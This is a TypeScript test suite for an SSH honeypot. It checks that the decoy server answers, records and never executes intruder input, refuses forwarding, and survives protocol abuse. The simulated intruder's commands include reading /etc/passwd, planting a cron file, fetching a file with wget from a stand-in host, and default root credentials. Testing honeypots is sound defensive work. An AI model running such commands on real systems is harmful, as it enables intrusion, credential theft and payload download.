import { spawn } from "node:child_process";
import { once } from "node:events";
import { Client, type ClientChannel, type ClientErrorExtensions } from "ssh2";
import { afterAll, beforeAll, expect, test } from "vitest";
import { connectTo, converse } from "../../testing/converse.ts";
import { enterSsh } from "../../testing/enter-ssh.ts";
import { openForTest, type OpenedDecoys } from "../../testing/opened.ts";

let decoys: OpenedDecoys;
beforeAll(async () => {
  decoys = await openForTest(["ssh"]);
  decoys.listen();
});
afterAll(() => decoys.close());
const lastOf = (source: string) => decoys.hits.findLast(({ source_ip: ip }) => ip === source);

/** @returns Why it was refused, and the host key that was shown. */
async function login(from: string, username: string, password: string) {
  const client = new Client();
  let key = "";
  const failed = once(client, "error") as Promise<[Error & ClientErrorExtensions]>;
  client.connect({
    sock: await connectTo(decoys.portOf("ssh"), from), username, password, authHandler: ["none", "password"],
    hostVerifier: (shown: Buffer) => (key = shown.toString("base64")) !== "",
  });
  const [{ level }] = await failed;
  return { level, key };
}

const enter = (from: string) => enterSsh(decoys.portOf("ssh"), from);

test("bait opens a shell without a system: what is typed is answered, recorded and nowhere executed", async () => {
  const client = await enter("127.0.3.6");
  const channel = await new Promise<ClientChannel>((resolve, reject) => void client.shell((error, opened) => (error ? reject(error) : resolve(opened))));
  await converse(channel, [[/backup@files2:~\$ $/, "id; uname -r\r"], [/uid=1000\(backup\)[^]*5\.10\.0-33-amd64[^]*\$ $/, "cat /etc/pqsswd\u007f\u007f\u007f\u007f\u007fasswd\r"], [/root:x:0:0[^]*\$ $/, "echo '* * * * * x' > /tmp/cron\r"], [/\$ $/, "wget http://192.0.2.1/x\r"], [/\$ $/, "printf '\u001B]0;x\u0007'\r"]], /\$ $/);
  client.end();
  await expect.poll(() => lastOf("127.0.3.6")).toMatchObject({ stage: "bait_credential", severity: "critical", techniques: expect.arrayContaining(["T1078", "T1059.004", "T1570"]) as string[] });
  await expect.poll(() => decoys.evidence.find(({ transcript }) => transcript !== null)?.transcript).toMatch(/^\{"version":2,"width":80,"height":24,"timestamp":\d+\}\n\[/);
  const lines = decoys.evidence.find(({ transcript }) => transcript !== null)?.transcript?.trim().split("\n").map((line) => JSON.parse(line) as unknown) ?? [];
  expect(lines.slice(1).every((line) => Array.isArray(line) && typeof line[0] === "number" && (line[1] === "i" || line[1] === "o") && typeof line[2] === "string")).toBe(true);
  expect(decoys.evidence.flatMap(({ files }) => files)).toMatchObject([{ name: "/tmp/cron", octets: 12, is_kept: true }]);
  await expect.poll(() => decoys.evidence.flatMap(({ fingerprints }) => fingerprints.map(({ kind }) => kind))).toEqual(expect.arrayContaining(["hassh", "software"]));
});

test("of who was let in commands are answered, and forwarding is refused", async () => {
  const client = await enter("127.0.3.7");
  const said = await new Promise<string>((resolve, reject) => void client.exec("whoami", (error, channel) => {
    if (error) return reject(error);
    let text = "";
    channel.on("data", (bytes: Buffer) => (text += bytes.toString())).on("close", () => resolve(text));
  }));
  expect(said).toBe("backup\n");
  await expect(new Promise((resolve, reject) => void client.forwardOut("127.0.0.1", 1, "192.0.2.1", 80, (error, channel) => (error ? reject(error) : resolve(channel))))).rejects.toThrow(/open failure/);
  client.end();
  expect(decoys.counts.failures).toBe(0);
});

test("nothing is inflated, and who asks and does not read is ended", async () => {
  const packed = new Client();
  const failed = once(packed, "error") as Promise<[Error & ClientErrorExtensions]>;
  packed.connect({ sock: await connectTo(decoys.portOf("ssh"), "127.0.3.8"), username: "backup", password: "Blue-Heron-4", algorithms: { compress: ["zlib@openssh.com"] } });
  expect((await failed)[0].level).toBe("handshake");
  const client = await enter("127.0.3.9");
  const channel = await new Promise<ClientChannel>((resolve, reject) => void client.shell((error, opened) => (error ? reject(error) : resolve(opened))));
  channel.on("error", () => undefined);
  const ended = new Promise<void>((resolve) => void client.on("close", () => resolve()));
  // Each line is answered with 30 KiB; what they are together is more than the channel's window of two megabytes, and less input than a session has.
  channel.write("cd /etc\r");
  for (let line = 0; line < 100; line += 1) channel.write(`cat ${"passwd ".repeat(100)}\r`);
  await ended;
});

test("whoever takes packets of no length is ended, before anything is cut into them", async () => {
  const client = await enter("127.0.3.10");
  const protocol = Reflect.get(client, "_protocol") as { session: (channel: number, window: number, packetOctets: number) => void };
  const open = protocol.session.bind(protocol);
  protocol.session = (channel, window) => open(channel, window, 0);
  const ended = new Promise<void>((resolve) => void client.on("close", () => resolve()));
  client.shell(() => undefined);
  await ended;
  expect(decoys.counts.failures).toBe(0);
});

test("passwords are refused and counted; the host key stays the same", async () => {
  const first = await login("127.0.3.1", "root", "toor");
  expect(first.level).toBe("client-authentication");
  await expect.poll(() => lastOf("127.0.3.1")).toMatchObject({ service: "ssh", stage: "credential", username: "root", techniques: ["T1046", "T1110.001", "T1021.004"] });
  expect(await login("127.0.3.2", "backup", "none")).toEqual(first);
});

test("says what it is before it is asked, and ends who speaks something else", async () => {
  await converse(await connectTo(decoys.portOf("ssh"), "127.0.3.3"), [[/^SSH-2\.0-OpenSSH_8\.4p1 Debian-5\+deb11u3\r\n/, "SSH-2.0-libssh2_1.0\r\n"]], /diffie-hellman-group14-sha256,kex-strict-s-v00@openssh.com[^]*ssh-ed25519/);
  await expect.poll(() => lastOf("127.0.3.3")).toMatchObject({ stage: "banner", detail: "libssh2_1.0" });
  const client = await connectTo(decoys.portOf("ssh"), "127.0.3.4");
  const closed = new Promise<void>((resolve) => void client.on("close", () => resolve()));
  client.resume().write("GET / HTTP/1.1\r\n\r\n");
  await closed;
  await expect.poll(() => lastOf("127.0.3.4")?.stage).toBe("banner");
  expect(decoys.counts.failures).toBe(0);
});

test("OpenSSH's own client gets as far as the password", async () => {
  const client = spawn("ssh", [
    "-F", "none", "-p", `${decoys.portOf("ssh")}`, "-b", "127.0.3.5", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "admin@127.0.0.1",
  ], { stdio: ["ignore", "ignore", "pipe"] });
  let said = "";
  client.stderr.setEncoding("utf8").on("data", (text: string) => (said += text));
  expect((await once(client, "close"))[0]).toBe(255);
  expect(said).toMatch(/Permission denied \(publickey,password\)/);
});
